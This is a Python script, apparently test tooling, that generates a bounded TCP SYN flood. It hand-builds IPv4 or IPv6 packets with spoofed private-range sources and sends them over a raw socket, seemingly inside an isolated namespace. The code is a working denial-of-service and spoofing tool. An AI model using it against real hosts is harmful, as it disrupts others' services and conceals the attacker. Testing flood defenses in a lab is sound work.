# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""A SYN flood from made-up sources, bounded in number: flood.py DEVICE SRC_MAC DST_MAC FAMILY DESTINATION PORT COUNT

Run inside the crowd's namespace. Sources are spread over 10.73.0.0/16 or fd73::/48 (65536 /64s). All frames are built before the
first is sent, so that the flood is as dense as one process can make it. Prints how many were sent.
"""
import ipaddress
import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, port):
    tcp = struct.pack("!HHIIBBHHHBBH", random.randint(1024, 65535), port, random.getrandbits(32), 0, 6 << 4, 2, 65535, 0, 0,
                      2, 4, 1460)
    pseudo = source + destination + struct.pack("!HH" if len(source) == 4 else "!II", *((6, len(tcp)) if len(source) == 4
                                                                                     else (len(tcp), 6)))
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def frame(ether, destination, port):
    if len(destination) == 4:
        source = bytes([10, 73, random.randrange(256), random.randrange(1, 255)])
        tcp = syn(source, destination, port)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, destination)
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        return ether + b"\x08\x00" + head + tcp
    source = ipaddress.IPv6Address("fd73::").packed[:6] + struct.pack("!HQ", random.getrandbits(16), random.getrandbits(64))
    tcp = syn(source, destination, port)
    return ether + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + destination + tcp


def main():
    device, src_mac, dst_mac, family, destination, port, count = sys.argv[1:]
    ether = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
    target = socket.inet_pton(socket.AF_INET if family == "ipv4" else socket.AF_INET6, destination)
    frames = [frame(ether, target, int(port)) for _ in range(min(int(count), 20000))]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    sent = 0
    while sent < int(count):
        try:
            sock.send(frames[sent % len(frames)])
            sent += 1
        except OSError as error:
            if error.errno != 105:  # ENOBUFS: the device's queue is full
                raise
    print(sent)


main()
